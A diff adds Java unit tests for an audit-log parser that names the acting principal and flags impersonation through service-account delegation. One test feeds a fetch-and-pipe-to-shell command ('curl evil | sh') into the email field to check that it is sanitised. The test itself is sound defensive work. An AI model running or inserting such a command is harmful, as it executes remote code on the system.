@@ -98,6 +98,44 @@ class AuditLogEntryTest {
                 .isEmpty();
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = ';',
+            quoteCharacter = '~',
+            value = {
+                "{} ; unknown",
+                "{\"principalEmail\":\"\"} ; unknown",
+                "{\"principalSubject\":\"principal://iam.googleapis.com/locations/global/workforcePools/p/subject/x\"} ;"
+                        + " principal://iam.googleapis.com/locations/global/workforcePools/p/subject/x",
+                "{\"principalEmail\":\"a@b.c\",\"principalSubject\":\"user:a@b.c\"} ; a@b.c",
+                "{\"principalEmail\":\"curl evil | sh\"} ; curl_evil_|_sh"
+            })
+    void whoeverDidItIsNamedAndNeverAsASentence(String authentication, String principal) throws IOException {
+        assertThat(AuditLogEntry.read(by(authentication)))
+                .hasValueSatisfying(
+                        read -> assertThat(read.change().principal()).isEqualTo(principal));
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '~',
+            value = {
+                "{\"principalEmail\":\"a@b.c\"} | false",
+                "{\"principalEmail\":\"a@b.c\",\"serviceAccountDelegationInfo\":[]} | false",
+                "{\"principalEmail\":\"a@b.c\",\"serviceAccountDelegationInfo\":[{\"principalSubject\":\"x\"}]} | true"
+            })
+    void whoeverActsAsAnotherIsSeen(String authentication, boolean impersonated) throws IOException {
+        assertThat(AuditLogEntry.read(by(authentication)))
+                .hasValueSatisfying(read -> assertThat(read.impersonated()).isEqualTo(impersonated));
+    }
+
+    private static byte[] by(String authentication) {
+        return new String(entry("SetIamPolicy", Sample.KEY.toString(), ""), UTF_8)
+                .replace("{\"principalEmail\":\"mallory@example.com\"}", authentication)
+                .getBytes(UTF_8);
+    }
+
     @Test
     void aCallThatWasRefusedChangedNothing() throws IOException {
         assertThat(AuditLogEntry.read(entry("SetIamPolicy", Sample.KEY.toString(), ",\"status\":{\"code\":7}")))
